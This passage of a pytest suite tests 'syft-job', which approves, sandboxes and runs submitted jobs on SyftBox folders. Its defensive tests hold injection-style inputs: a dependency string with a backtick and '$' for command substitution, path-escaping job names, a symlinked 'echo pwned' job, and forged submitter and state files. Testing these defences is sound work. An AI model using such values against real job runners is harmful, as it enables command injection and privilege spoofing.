    monkeypatch.setenv("SYFT_CLIENT_INSTALL_SOURCE", "git+https://example.org/syft-client@main")
    job = client.submit_python_job(OWNER, script, job_name="env")
    assert 'uv pip install "git+https://example.org/syft-client@main"\n' in (job / "run.sh").read_text()
    monkeypatch.setenv("SYFT_CLIENT_INSTALL_SOURCE", "")
    job = client.submit_python_job(OWNER, script, job_name="empty env")
    assert 'uv pip install "syft-client"\n' in (job / "run.sh").read_text()


def test_bash_job_default_name_and_no_overwrite(syftbox):
    client = client_for(syftbox, "legacy")
    job = client.submit_bash_job(OWNER, "echo hello")
    assert re.match(r"^Job - [0-9a-f]{8}$", job.name)
    assert (job / "run.sh").read_text() == "#!/bin/bash\necho hello\n"
    with pytest.raises(JobError, match="already exists"):
        client.submit_bash_job(OWNER, "echo again", job_name=job.name)
    assert (job / "run.sh").read_text() == "#!/bin/bash\necho hello\n"


@pytest.mark.parametrize("name", [".", "..", "a/b", "a\0b", "   ", "x" * 256, "é" * 128])
def test_bad_job_names_are_refused(syftbox, name):
    with pytest.raises(JobError, match="job name"):
        client_for(syftbox).submit_bash_job(OWNER, "true", job_name=name)


def test_submitting_to_an_unknown_datasite_is_a_clear_error(syftbox):
    with pytest.raises(JobError, match="no datasite for nobody@test.org"):
        client_for(syftbox).submit_bash_job("nobody@test.org", "true", job_name="x")
    with pytest.raises(ConfigError, match="email"):
        client_for(syftbox).submit_bash_job("not-an-email", "true", job_name="x")


FAKE_UV = """#!/bin/bash
# A stand-in for uv: records what the job asked for, makes an activate script.
case "$1" in
  venv) mkdir -p .venv/bin && echo 'export FAKE_VENV=1' > .venv/bin/activate ;;
  sync) mkdir -p .venv/bin && echo 'export FAKE_VENV=1' > .venv/bin/activate ;;
  pip)  [ "$PWD" = / ] && exit 0  # the runner's fetch before the job, which the sandbox's test does not need
        shift 2; printf '%s\\n' "$@" > "$PWD/outputs/installed.txt" 2>/dev/null || printf '%s\\n' "$@" > "$PWD/../outputs/installed.txt" ;;
esac
"""


@pytest.fixture
def fake_uv(tmp_path, monkeypatch) -> Path:
    bin_dir = tmp_path / "fake-bin"
    bin_dir.mkdir()
    (bin_dir / "uv").write_text(FAKE_UV)
    (bin_dir / "uv").chmod(0o755)
    (bin_dir / "python").symlink_to(sys.executable)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return bin_dir


@pytest.mark.parametrize("layout, odd", [("legacy", "my project"), ("legacy", "it's $HOME"), ("v0", 'say "hi"'),
                                         ("v1", "plain")])
@pytest.mark.slow
def test_submitted_python_jobs_run_end_to_end(syftbox, tmp_path, fake_uv, layout, odd):
    # uv (found on PATH) is visible in the sandbox by itself; this Python, as a dataset would be, by allow_read.
    runner = syft_job.create_runner(syftbox, OWNER, allow_read=[fake_uv, sys.prefix, sys.base_prefix])
    project = tmp_path / odd
    project.mkdir()
    (project / "pyproject.toml").write_text("[project]\nname = 'p'\n")
    (project / "helper.py").write_text("VALUE = 42\n")
    (project / f"{odd}.py").write_text(
        "import helper, os\nopen('outputs/result.txt', 'w').write(str(helper.VALUE))\n"
        "print('venv', os.environ.get('FAKE_VENV'))\n")
    job = client_for(syftbox, layout).submit_python_job(
        OWNER, project, job_name=f"job {odd}", dependencies=["numpy>=1; python_version >= '3.9'", "we$ird`dep"],
        entrypoint=f"{odd}.py")
    runner.approve_job(f"job {odd}")
    [result] = runner.process_approved_jobs(stream_output=False, timeout=60)
    results = job if layout == "legacy" else Path(run_record(runner, results_of(runner, job))["results"])
    assert (results / "stderr.txt").read_text() == "" and result.return_code == 0
    assert (results / "outputs" / "result.txt").read_text() == "42"
    assert (results / "stdout.txt").read_text() == "venv 1\n"
    assert (results / "outputs" / "installed.txt").read_text().splitlines() == [
        "syft-client", "numpy>=1; python_version >= '3.9'", "we$ird`dep"]


def results_of(runner: syft_job.SyftJobRunner, submission: Path) -> Path:
    row = next(r for r in runner.list_jobs() if r["folder"] == str(submission))
    return Path(row["results"])


# ---------------------------------------------------------------------------
# Protocols: every layout syft-job has shipped, from the real clients' own trees
# ---------------------------------------------------------------------------

LAYOUT_OF = {"0.1.24": "legacy", "0.1.39": "v0", "0.1.40": "v1"}
UPSTREAM_OWNER, UPSTREAM_DS = "do@example.com", "ds@example.com"


def upstream_box(tmp_path: Path, *versions: str) -> Path:
    """A SyftBox folder holding the real trees of ``versions``, merged (the review/
    permission files of 0.1.39 and 0.1.40 are merged rule by rule)."""
    box = tmp_path / "box"
    for version in versions:
        shutil.copytree(PROTOCOLS / version / "SyftBox", box, dirs_exist_ok=True,
                        ignore=shutil.ignore_patterns("syft.pub.yaml"))
        for permission in (PROTOCOLS / version / "SyftBox").rglob("syft.pub.yaml"):
            target = box / permission.relative_to(PROTOCOLS / version / "SyftBox")
            rules = syft_job.load_yaml(permission.read_text())
            if target.exists():
                merged = syft_job.load_yaml(target.read_text())
                rules["rules"] = merged["rules"] + [r for r in rules["rules"] if r not in merged["rules"]]
            target.write_text(syft_job.dump_yaml(rules))
    return box


EXPECTED_STATUS = {"approved": "approved", "done": "done", "failed": "failed", "pending": "inbox",
                   "python-pending": "inbox", "rejected": "rejected", "shared": "done"}


def test_every_layout_is_discovered_at_once_from_the_real_trees(tmp_path):
    box = upstream_box(tmp_path, "0.1.24", "0.1.39", "0.1.40")
    runner = syft_job.create_runner(box, UPSTREAM_OWNER, console=False)
    rows = runner.list_jobs()
    got = {(r["layout"], r["name"]): r for r in rows}
    expected = {(LAYOUT_OF[v], name): status for v in LAYOUT_OF for name, status in EXPECTED_STATUS.items()
                if not (v == "0.1.24" and name == "rejected")}
    assert {key: row["status"] for key, row in got.items()} == expected
    assert all(r["submitter"] == UPSTREAM_DS for r in rows)
    assert got[("v1", "failed")]["return_code"] == 3 and got[("legacy", "failed")]["return_code"] == 3
    assert got[("v0", "rejected")]["reason"] == "asks for raw records; aggregate first"
    assert got[("v1", "approved")]["reason"] == "aggregates only"
    # Identity is the path's: a config.yaml that names someone else changes nothing.
    config = box / UPSTREAM_OWNER / "app_data/job/inbox/ds@example.com/pending/config.yaml"
    config.write_text(config.read_text() + "submitted_by: ceo@example.com\nname: other\n")
    assert {r["submitter"] for r in runner.list_jobs()} == {UPSTREAM_DS}


@pytest.mark.slow
def test_the_mixed_folder_runs_each_approved_job_once_and_reports_as_upstream_reads(tmp_path):
    box = upstream_box(tmp_path, "0.1.24", "0.1.39", "0.1.40")
    sink = Sink()
    runner = syft_job.create_runner(box, UPSTREAM_OWNER, console=sink)
    results = runner.process_approved_jobs()
    assert sorted(r.name for r in results) == ["approved"] * 2 and all(r.succeeded for r in results)
    # 0.1.24's folder let the submitter write its markers until this runner protected it: its
    # approval from before may be forged, so it waits until the owner approves it again.
    assert "its approved marker is older than the rules that keep its submitter from writing it" in sink.text
    marker = runner.job_dir / UPSTREAM_DS / "approved" / "approved"
    marker.unlink()
    marker.touch()  # approved again, as 0.1.24's client does: after the protection, so trusted
    assert [r.name for r in runner.process_approved_jobs()] == ["approved"]
    assert runner.process_approved_jobs() == []
    job_dir = runner.job_dir
    legacy = job_dir / UPSTREAM_DS / "approved"
    ran_in = (legacy / "stdout.txt").read_text().split("hello from ", 1)[1].strip()
    assert ran_in != "approved"  # $PWD was the private copy, not the submitter's folder
    assert (legacy / "outputs" / "result.txt").read_text() == "42\n" and (legacy / "done").exists()
    for level in ([], ["v1"]):
        review = job_dir.joinpath("review", UPSTREAM_DS, *level, "approved")
        assert (review / "outputs" / "result.txt").read_text() == "42\n"  # the job wrote code/outputs/
        assert (review / "stderr.txt").read_text() == "a warning\n" and (review / "returncode.txt").read_text() == "0"
        state = state_of(review)
        keys = set(syft_job._STATE_KEYS) | ({"canonical_name", "version"} if level else set())
        assert set(state) == keys and state["status"] == "done" and state["return_code"] == 0
        assert state["approved_by"] == UPSTREAM_OWNER and state["review_reason"] == "aggregates only"
        assert re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$", state["completed_at"])
        assert (state.get("canonical_name"), state.get("version")) == (("JobState", "1") if level else (None, None))
        inbox = job_dir.joinpath("inbox", UPSTREAM_DS, *level, "approved")
        assert sorted(p.name for p in inbox.iterdir()) == ["code", "config.yaml", "run.sh"]  # untouched


def test_new_jobs_are_received_pending_or_rejected_with_a_reason(runner):
    folder, results = new_job(runner, "fresh", "echo hi\n", approve=False)
    bad, bad_results = new_job(runner, "extra files", "echo hi\n", approve=False)
    (bad / "notes.txt").write_text("not allowed here")
    assert not (results / "state.yaml").exists()
    assert [r["status"] for r in runner.list_jobs()] == ["inbox", "inbox"]  # read-only: nothing received yet
    assert runner.check_for_new_jobs() == [f"{DS}/fresh"]  # the rejected one is not waiting for review
    state = state_of(results)
    assert state["status"] == "pending" and state["received_at"].endswith("Z") and state["approved_by"] is None
    rejected = state_of(bad_results)
    assert rejected["status"] == "rejected" and rejected["rejected_by"] == OWNER
    assert "must hold exactly code/, run.sh and config.yaml" in rejected["review_reason"]
    assert "notes.txt" in rejected["review_reason"]


@pytest.mark.slow
def test_approve_and_reject_write_what_the_real_clients_show(runner, syftbox):
    for layout in ("v0", "v1"):
        new_job(runner, f"ok {layout}", "echo fine\n", layout=layout, approve=False)
        new_job(runner, f"no {layout}", "echo never\n", layout=layout, approve=False)
    runner.check_for_new_jobs()
    result = cli("approve", "ok v0", "--reason", "aggregates only", *site_args(syftbox))
    assert result.returncode == 0, result.stderr
    assert re.search(r"digest: [0-9a-f]{64}$", result.stdout.strip())
    runner.approve_job("ok v1", reason="fine by me")
    assert cli("reject", "no v0", "--reason", "asks for raw records", *site_args(syftbox)).returncode == 0
    runner.reject_job("no v1", "too broad", user=DS)
    review = runner.job_dir / "review" / DS
    for path, reason in ((review / "ok v0", "aggregates only"), (review / "v1" / "ok v1", "fine by me")):
        state = state_of(path)
        assert (state["status"], state["approved_by"], state["approval_method"], state["review_reason"]) == (
            "approved", OWNER, "manual", reason)
    for path, reason in ((review / "no v0", "asks for raw records"), (review / "v1" / "no v1", "too broad")):
        state = state_of(path)
        assert (state["status"], state["rejected_by"], state["review_reason"]) == ("rejected", OWNER, reason)
        assert state["rejected_at"].endswith("Z")
    ran = sorted(r.name for r in runner.process_approved_jobs())
    assert ran == ["ok v0", "ok v1"]
    assert cli("reject", "ok v0", *site_args(syftbox)).returncode == 2  # --reason is required
    with pytest.raises(JobError, match="is done"):
        runner.reject_job("ok v0", "too late")


def test_a_legacy_rejection_is_a_file_with_the_reason_and_the_job_never_runs(runner, syftbox):
    job = make_job(runner, "nosy", "echo never\n")
    runner.reject_job("nosy", "reads the raw table")
    assert (job / "rejected").read_text() == "reads the raw table\n" and not (job / "approved").exists()
    (job / "approved").touch()  # approved again by another tool: still never run by ours
    assert runner.process_approved_jobs() == []
    assert not (job / "stdout.txt").exists()
    row = runner.list_jobs()[0]
    assert (row["status"], row["reason"]) == ("rejected", "reads the raw table")
    with pytest.raises(JobError, match="a rejection needs a reason"):
        runner.reject_job("nosy", " ")


@pytest.mark.slow
def test_bad_state_files_are_reported_and_not_run(runner, syftbox, capsys):
    unreadable, r1 = new_job(runner, "garbled", "echo never\n")
    unknown, r2 = new_job(runner, "unknown", "echo never\n")
    forged, r3 = new_job(runner, "forged", "echo never\n", submitter=OTHER)
    fine, r4 = new_job(runner, "fine", "echo fine\n")
    (r1 / "state.yaml").write_text("status: [unclosed\n")
    (r2 / "state.yaml").write_text((r2 / "state.yaml").read_text().replace("status: approved", "status: launched"))
    # A review folder whose rules let its submitter write: its state.yaml could be the submitter's.
    (runner.job_dir / "review" / OTHER / "syft.pub.yaml").write_text(syft_job.dump_yaml(
        {"rules": [{"pattern": "forged/state.yaml", "access": {"write": [OTHER]}}]}))
    orphan, orphan_v1 = runner.job_dir / "review" / DS / "gone", runner.job_dir / "review" / DS / "v1" / "gone"
    for folder in (orphan, orphan_v1):
        folder.mkdir(parents=True)
        (folder / "state.yaml").write_text("status: approved\n")
    capsys.readouterr()
    assert [r.name for r in runner.process_approved_jobs()] == ["fine"]
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert out.count("garbled (v0) is not run: its state.yaml cannot be used") == 1
    assert f"{r1 / 'state.yaml'}, line 1" in out
    assert "status 'launched' is none of" in out
    assert f"Job {OTHER}/forged (v0) is not run: its submitter may write its state.yaml" in out
    assert out.count(f"{orphan} has no job in inbox/") == 1 and out.count(f"{orphan_v1} has no job in inbox/") == 1
    assert str(orphan_v1.parent) in syft_job._watched_folders(runner.config, runner._site, runner._scanner)
    for results in (r1, r2, r3):
        assert not (results / "stdout.txt").exists()


@pytest.mark.slow
def test_results_stay_private_until_shared_in_every_layout(runner, syftbox):
    root = syftbox.resolve()
    runner.add_submitter(DS)
    jobs = {layout: new_job(runner, f"job {layout}", "echo out\necho 1 > outputs/r.csv\n", layout=layout)
            for layout in ("v0", "v1")}
    runner.process_approved_jobs()
    for layout, (folder, results) in jobs.items():
        assert can(root, DS, results / "state.yaml", "read")  # the status, at once
        assert not can(root, DS, results / "state.yaml", "write")
        for name in ("stdout.txt", "stderr.txt", "returncode.txt", "outputs/r.csv"):
            assert not can(root, DS, results / name, "read"), (layout, name)
        assert can(root, DS, folder / "run.sh", "write") and not can(root, OTHER, folder / "run.sh", "read")
        runner.share_job_results(f"job {layout}", share_outputs=True, share_logs=True)
        assert all(can(root, DS, results / n, "read") for n in ("stdout.txt", "outputs/r.csv"))
        assert not can(root, OTHER, results / "stdout.txt", "read")
    # Upstream's review/<ds>/syft.pub.yaml lets the submitter read all ("**"): ours still hides what is not shared.
    box = upstream_box(runner.config.syftbox_folder.parent / "up", "0.1.39", "0.1.40")
    upstream = syft_job.create_runner(box, UPSTREAM_OWNER, console=False)
    upstream.check_for_new_jobs()  # protects what the runner finds
    review = upstream.job_dir / "review" / UPSTREAM_DS
    assert can(box.resolve(), UPSTREAM_DS, review / "shared" / "stdout.txt", "read")  # shared by upstream
    for job in ("done", "failed", "v1/done", "v1/failed"):
        assert not can(box.resolve(), UPSTREAM_DS, review / job / "stdout.txt", "read"), job
        assert can(box.resolve(), UPSTREAM_DS, review / job / "state.yaml", "read"), job


def test_add_submitter_lays_out_each_layout_the_owner_uses(runner, syftbox):
    inbox = runner.add_submitter(DS)
    assert inbox == runner.job_dir / "inbox" / DS
    review = runner.job_dir / "review" / DS
    root = syftbox.resolve()
    assert can(root, DS, inbox / "job" / "run.sh", "write") and can(root, DS, inbox / "v1" / "job" / "run.sh", "write")
    assert can(root, DS, review / "job" / "state.yaml", "read") and can(root, DS, review / "v1/job/state.yaml", "read")
    assert not can(root, DS, review / "job" / "state.yaml", "write")
    assert not can(root, DS, review / "job" / "stdout.txt", "read")
    assert not can(root, DS, inbox / "syft.pub.yaml", "write")
    (syftbox.parent / "old" / OWNER).mkdir(parents=True)
    legacy = syft_job.create_runner(syftbox.parent / "old", OWNER)
    make_job(legacy, "old job", "true\n", approved=False)
    assert legacy.add_submitter(OTHER) == legacy.job_dir / OTHER  # a legacy folder, as its others
    assert can(legacy.config.syftbox_folder, OTHER, legacy.job_dir / OTHER / "j" / "run.sh", "write")
    assert not can(legacy.config.syftbox_folder, OTHER, legacy.job_dir / OTHER / "j" / "approved", "write")


@pytest.mark.slow
def test_the_data_scientist_sees_its_jobs_newest_first_and_only_what_is_shared(runner, syftbox):
    runner.add_submitter(DS)
    old, _ = new_job(runner, "old <b>", "echo old-out\n")
    time.sleep(0.01)
    new_job(runner, "pending", "echo x\n", approve=False)
    time.sleep(0.01)
    new_job(runner, "nope", "echo x\n", approve=False)
    runner.check_for_new_jobs()
    runner.reject_job("nope", "too broad")
    runner.process_approved_jobs()
    client = client_for(syftbox)
    jobs = client.jobs
    assert [j.name for j in jobs] == ["nope", "pending", "old <b>"]
    by_name = {j.name: j for j in jobs}
    assert (by_name["nope"].status, by_name["nope"].reason) == ("rejected", "too broad")
    assert by_name["pending"].status == "inbox"
    done = by_name["old <b>"]
    assert (done.status, done.return_code, done.owner, done.submitted_by) == ("done", 0, OWNER, DS)
    assert done.stdout is None and done.outputs is None  # not shared yet
    runner.share_job_results("old <b>", share_outputs=True, share_logs=True)
    done = {j.name: j for j in client.jobs}["old <b>"]
    assert done.stdout == "old-out\n" and done.outputs == [] and done.stderr == ""
    table = str(client.jobs)
    assert table.splitlines()[0].split() == ["NAME", "OWNER", "STATUS", "SUBMITTED", "RC", "REASON", "SHARED"]
    assert "too broad" in table and "logs outputs" in table
    html_table = client.jobs._repr_html_()
    assert "old &lt;b&gt;" in html_table and "old <b>" not in html_table
    assert "old-out" in str(done)
    assert syft_job.JobClient(SyftJobConfig.from_syftbox_folder(syftbox, OTHER)).jobs == []


UPSTREAM_ROUND_TRIP = r"""
import json, sys
from syft_job import get_client, create_runner
box, action = sys.argv[1], sys.argv[2]
do, ds = get_client(box, "do@example.com"), get_client(box, "ds@example.com")
if action == "submit":
    do.setup_ds_job_folder_as_do("ds@example.com")
    ds.submit_bash_job(user="do@example.com", script='echo "from upstream" > code/outputs/o.txt\necho hi\n',
                       job_name="theirs")
elif action == "run":
    for job in do.jobs:
        if job.name == "ours" and job.status == "pending":
            job.approve(reason="fine")
    create_runner(box, "do@example.com").process_approved_jobs(stream_output=False, timeout=60)
jobs = {j.name: [j.status, getattr(j, "review_reason", None),
                 str(j.stdout) if j.status == "done" else None] for j in ds.jobs}
print("@@" + json.dumps(jobs))
"""


def upstream_python(version: str) -> str:
    venvs = Path(os.environ.get("SYFT_JOB_UPSTREAM_VENVS", Path.home() / ".cache" / "syft-job-upstream"))
    python = venvs / version / "bin" / "python"
    if not python.exists():
        pytest.skip(f"the real syft-job {version} is not installed at {python.parent.parent} "
                    "(.ci/run makes it; SYFT_JOB_UPSTREAM_VENVS points elsewhere)")
    return str(python)


@pytest.mark.parametrize("version", ["0.1.39", "0.1.40"])
@pytest.mark.upstream
@pytest.mark.slow
def test_round_trip_with_the_real_upstream_clients(tmp_path, version):
    python = upstream_python(version)
    box = tmp_path / "box"
    (box / UPSTREAM_OWNER).mkdir(parents=True)
    (box / UPSTREAM_DS).mkdir()
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    their = subprocess.run([python, "-c", UPSTREAM_ROUND_TRIP, str(box), "submit"], capture_output=True,
                           text=True, timeout=120, env=env, cwd=tmp_path)
    assert their.returncode == 0, their.stderr
    # Their client submitted; ours receives, approves, runs, shares.
    runner = syft_job.create_runner(box, UPSTREAM_OWNER, console=False)
    runner.check_for_new_jobs()
    runner.approve_job("theirs", reason="aggregates only")
    [result] = runner.process_approved_jobs()
    assert result.succeeded
    # Released file by file: their client, on a SyftBox holding only what the rules let it read, sees just that.
    assert runner.release_results("theirs", ["stdout.txt"]) == ["stdout.txt"]
    copy = tmp_path / "ds-box"
    for path in box.rglob("*"):
        if path.is_file() and path.name != "syft.pub.yaml" and can(box, UPSTREAM_DS, path, "read"):
            (copy / path.relative_to(box)).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, copy / path.relative_to(box))
    assert not list(copy.rglob("o.txt")) and list(copy.rglob("stdout.txt"))
    (copy / UPSTREAM_DS).mkdir(exist_ok=True)
    seen = subprocess.run([python, "-c", UPSTREAM_ROUND_TRIP, str(copy), "look"], capture_output=True, text=True,
                          timeout=120, env=env, cwd=tmp_path)
    assert json.loads(seen.stdout.split("@@", 1)[1])["theirs"][0] == "done" and "hi" in seen.stdout, seen.stderr
    runner.share_job_results("theirs")
    seen = subprocess.run([python, "-c", UPSTREAM_ROUND_TRIP, str(box), "look"], capture_output=True, text=True,
                          timeout=120, env=env, cwd=tmp_path)
    jobs = json.loads(seen.stdout.split("@@", 1)[1])
    assert jobs["theirs"][:2] == ["done", "aggregates only"] and "hi" in jobs["theirs"][2]
    # Ours submits (in the layout the owner's folder uses); their runner runs it.
    client_for(box, email=UPSTREAM_DS).submit_bash_job(UPSTREAM_OWNER, 'echo "ours ran"\n', job_name="ours")
    ran = subprocess.run([python, "-c", UPSTREAM_ROUND_TRIP, str(box), "run"], capture_output=True, text=True,
                         timeout=120, env=env, cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    jobs = json.loads(ran.stdout.split("@@", 1)[1])
    assert jobs["ours"][0] == "done" and "ours ran" in jobs["ours"][2]
    assert {j.name: j.status for j in client_for(box, email=UPSTREAM_DS).jobs} == {"theirs": "done", "ours": "done"}


# ---------------------------------------------------------------------------
# Discovery and announcements
# ---------------------------------------------------------------------------


def test_check_for_new_jobs_prints_each_inbox_job_once_even_across_runners(runner, syftbox, capsys):
    script = "#!/bin/bash\n" + "".join(f"echo line{i}\n" for i in range(2, 9))
    make_job(runner, "Data Processing", script, approved=False)
    make_job(runner, "approved one", "echo hi", approved=True)
    (runner.job_dir / DS / "not a job").mkdir()  # no config.yaml: not a job
    assert runner.check_for_new_jobs() == [f"{DS}/Data Processing"]
    out = capsys.readouterr().out
    job_path = runner.job_dir / DS / "Data Processing"
    assert out == (
        f"🔔 NEW JOB DETECTED: {DS}/Data Processing\n"
        f"📁 Location: {job_path}\n"
        "📝 Script preview:\n"
        "1: #!/bin/bash\n2: echo line2\n3: echo line3\n4: echo line4\n5: echo line5\n"
        "... (more lines)\n"
        "⚙️ Config:\n"
        "name: Data Processing\n"
        f"submitted_by: {DS}\n"
        "submitted_at: 2026-03-02T10:30:00+00:00\n"
        + "-" * 50 + "\n"
    )
    assert runner.check_for_new_jobs() == [] and capsys.readouterr().out == ""
    # A new runner (a new `once` from cron) remembers what was announced, in its private state.
    again = syft_job.create_runner(syftbox, OWNER)
    assert again.check_for_new_jobs() == [] and capsys.readouterr().out == ""
    make_job(runner, "second", "echo 2", approved=False)
    assert again.check_for_new_jobs() == [f"{DS}/second"]
    assert "Data Processing" not in capsys.readouterr().out


def test_a_config_written_by_another_client_is_shown_as_written(runner, capsys):
    config = (HERE / "tests" / "fixtures" / "yaml" / "config_python_job.yaml").read_text()
    make_job(runner, "Data Processing", "python main.py\n", approved=False, config=config)
    runner.check_for_new_jobs()
    out = capsys.readouterr().out
    assert ("⚙️ Config:\nname: Data Processing\nsubmitted_by: ds@test.org\n"
            "submitted_at: 2026-03-02T10:30:00+00:00\ncode_path: /home/ds/projects/analysis\n"
            "dependencies: syft-client, numpy, pandas==2.2.0\nentry_point: main.py\n"
            "is_folder_submission: true\ntype: python\n") in out


def test_check_for_new_jobs_reports_a_bad_config_and_goes_on(runner, capsys):
    make_job(runner, "broken", "echo x", approved=False, config="name: [unclosed\n")
    make_job(runner, "fine", "echo x", approved=False)
    runner.check_for_new_jobs()
    out = capsys.readouterr().out
    assert "config.yaml, line 1" in out and "broken" in out
    assert "NEW JOB DETECTED: ds@test.org/fine" in out


def test_a_poll_looks_again_only_at_what_can_have_changed(runner, monkeypatch):
    finished = [make_job(runner, f"done {i}", "true\n") for i in range(5)]
    for job in finished:
        (job / "done").touch()
    waiting = make_job(runner, "waiting", "true\n", approved=False)
    old = time.time() - 60  # a folder last changed a minute ago: its listing can be trusted
    os.utime(runner.job_dir / DS, (old, old))
    looked_at = []
    coarse = syft_job._coarse_state
    monkeypatch.setattr(syft_job, "_coarse_state",
                        lambda layout, folder, results: looked_at.append(Path(folder).name) or coarse(layout, folder, results))
    assert len(runner._jobs()) == 6 and sorted(looked_at) == sorted(["waiting"] + [j.name for j in finished])
    looked_at.clear()
    runner._jobs()
    assert looked_at == ["waiting"]  # finished jobs are not looked at again
    (waiting / "approved").touch()
    assert {j.name: j.state for j in runner._jobs()}["waiting"] == "approved"
    new = make_job(runner, "new", "true\n", approved=False)  # changes the submitter folder
    looked_at.clear()
    assert "new" in {j.name for j in runner._jobs()} and sorted(looked_at) == ["new", "waiting"]
    shutil.rmtree(new)
    assert "new" not in {j.name for j in runner._jobs()}
    # A command that changes a job by hand (rerun) makes the runner look at everything again.
    runner.rerun_job("done 0")
    assert {j.name: j.state for j in runner._jobs()}["done 0"] == "approved"


def test_discovery_does_not_follow_symlinks_out(runner, tmp_path, capsys):
    outside = tmp_path / "outside"
    (outside / "job").mkdir(parents=True)
    (outside / "job" / "config.yaml").write_text("name: job\n")
    (outside / "job" / "run.sh").write_text("echo pwned > pwned\n")
    (outside / "job" / "approved").touch()
    runner.job_dir.mkdir(parents=True)
    (runner.job_dir / "evil@test.org").symlink_to(outside)
    (runner.job_dir / DS).mkdir()
    (runner.job_dir / DS / "linked").symlink_to(outside / "job")
    (runner.job_dir / "inbox").mkdir()
    (runner.job_dir / "inbox" / DS).symlink_to(outside)
    runner.check_for_new_jobs()
    assert runner.process_approved_jobs() == []
    assert capsys.readouterr().out == ""
    assert not (outside / "job" / "pwned").exists()


# ---------------------------------------------------------------------------
# Execution
# ---------------------------------------------------------------------------


def test_process_runs_approved_jobs_and_writes_results(runner, capsys):
    ok = make_job(runner, "Data Analysis", "echo 'Running analysis...'\necho result > outputs/r.txt\n")
    bad = make_job(runner, "failing", "echo oops >&2\nexit 3\n")
    inbox = make_job(runner, "waiting", "echo no", approved=False)
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert (ok / "stdout.txt").read_bytes() == b"Running analysis...\n"
    assert (ok / "stderr.txt").read_bytes() == b""
    assert (ok / "returncode.txt").read_text() == "0"
    assert (ok / "outputs" / "r.txt").read_text() == "result\n"
    assert json.loads((ok / "done").read_text())["return_code"] == 0
    assert (bad / "returncode.txt").read_text() == "3" and (bad / "stderr.txt").read_bytes() == b"oops\n"
    assert not (inbox / "done").exists() and not (inbox / "stdout.txt").exists()
    assert "📋 Found 2 job(s) in approved directory\n" + "=" * 50 + "\n" in out
    assert f"🚀 Executing job: Data Analysis\n📁 Job directory: {ok}\n" in out
    assert f"[{OWNER}][Data Analysis] Running analysis...\n" in out
    assert "✅ Job Data Analysis completed successfully\n📄 Output written to stdout.txt\n" in out
    assert f"[{OWNER}][failing] STDERR: oops\n" in out
    assert "❌ Job failing failed with return code 3" in out
    assert out.endswith("=" * 50 + "\n❌ Processed 2 job(s): 1 succeeded, 1 failed\n")
    assert sorted(p.name for p in ok.iterdir()) == ["approved", "config.yaml", "done", "outputs", "returncode.txt",
                                                    "run.sh", "stderr.txt", "stdout.txt"]
    assert runner.process_approved_jobs() == [] and capsys.readouterr().out == ""  # done jobs never run again


def test_skip_job_names_by_name_or_submitter_and_name(runner, capsys):
    a = make_job(runner, "a", "true")
    b = make_job(runner, "b", "true")
    c = make_job(runner, "c", "true", submitter=OTHER)
    runner.process_approved_jobs(skip_job_names=["a", f"{OTHER}/c"])
    assert not (a / "done").exists() and (b / "done").exists() and not (c / "done").exists()
    assert "Found 1 job(s)" in capsys.readouterr().out


def test_job_environment_is_the_documented_one_and_it_runs_in_a_private_copy(runner, syftbox, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    job = make_job(runner, "env", "env\n")
    runner.process_approved_jobs(stream_output=False)
    env = dict(line.split("=", 1) for line in (job / "stdout.txt").read_text().splitlines() if "=" in line)
    assert env["SYFTBOX_FOLDER"] == str(syftbox.resolve())
    assert env["SYFTBOX_EMAIL"] == OWNER
    assert env["SYFT_IS_IN_JOB"] == "true"
    assert env["PYTHONUNBUFFERED"] == "1"
    assert env["PWD"].startswith(str(runner.settings.work_dir)) and not env["PWD"].startswith(str(syftbox))
    assert "AWS_SECRET_ACCESS_KEY" not in env and "hunter2" not in (job / "stdout.txt").read_text()
    assert not os.path.exists(env["PWD"])  # the copy is gone


EXACT_BYTES = b"caf\xc3\xa9 \xff\xfe invalid\r\n10%\r50%\r100%\nno newline at end"


@pytest.mark.parametrize("stream", [True, False])
def test_logs_keep_the_exact_bytes(runner, capsys, stream):
    job = make_job(runner, "bytes", "cat payload.bin\ncat payload.bin >&2\n")
    (job / "payload.bin").write_bytes(EXACT_BYTES)
    runner.process_approved_jobs(stream_output=stream)
    assert (job / "stdout.txt").read_bytes() == EXACT_BYTES
    assert (job / "stderr.txt").read_bytes() == EXACT_BYTES
    out = capsys.readouterr().out
    prefix = f"[{OWNER}][bytes] "
    if stream:
        shown = [l[len(prefix):] for l in out.splitlines() if l.startswith(prefix) and "STDERR" not in l]
        assert shown == ["café \ufffd\ufffd invalid", "10%", "50%", "100%", "no newline at end"]
        assert f"{prefix}STDERR: no newline at end\n" in out
    else:
        assert prefix not in out and "invalid" not in out


def test_console_lines_across_chunk_boundaries():
    sink = Sink()
    printer = syft_job._LinePrinter(syft_job._Console(sink), "[o][j] ")
    for chunk in (b"a\r", b"\nb\r\n", b"c", b"d\n", b"\xc3", b"\xa9\n"):
        printer.feed("stdout", chunk)
    printer.feed("stderr", b"partial")
    printer.flush_stale(0)
    assert "".join(sink.writes) == "[o][j] a\n[o][j] b\n[o][j] cd\n[o][j] \u00e9\n[o][j] STDERR: partial\n"


def go_file(syftbox: Path) -> Path:
    """A file that jobs can see (the owner's datasets are readable) and wait for."""
    (syftbox / OWNER / "private").mkdir(exist_ok=True)
    return syftbox / OWNER / "private" / "go"


WAIT_FOR_GO = 'while [ ! -e "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/go" ]; do sleep 0.02; done\n'


@pytest.mark.slow
def test_partial_line_is_shown_before_the_job_goes_on(syftbox):
    go = go_file(syftbox)
    make_job(syft_job.create_runner(syftbox, OWNER), "progress", f"printf 'progress 50%%'\n{WAIT_FOR_GO}echo ' finished'\n")
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()")
    reader = LineReader(proc)
    try:
        # No newline was printed and the job is still blocked: the line shows anyway.
        reader.wait_for(f"[{OWNER}][progress] progress 50%\n", timeout=20)
        assert "finished" not in reader.text
        go.touch()
        assert proc.wait(timeout=30) == 0
        reader.thread.join(10)
        assert f"[{OWNER}][progress]  finished\n" in reader.text
    finally:
        proc.kill()


def test_stdout_and_stderr_never_mix_inside_a_console_line(runner, capsys):
